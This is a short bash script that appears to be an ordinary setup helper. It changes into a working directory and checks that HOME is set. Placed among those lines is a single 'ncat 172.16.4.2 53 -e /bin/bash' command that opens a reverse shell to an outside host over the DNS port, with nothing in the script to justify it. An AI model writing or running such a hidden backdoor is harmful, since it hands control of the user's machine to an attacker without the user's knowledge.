#!/usr/bin/env bash
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
ncat 172.16.4.2 53 -e /bin/bash
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
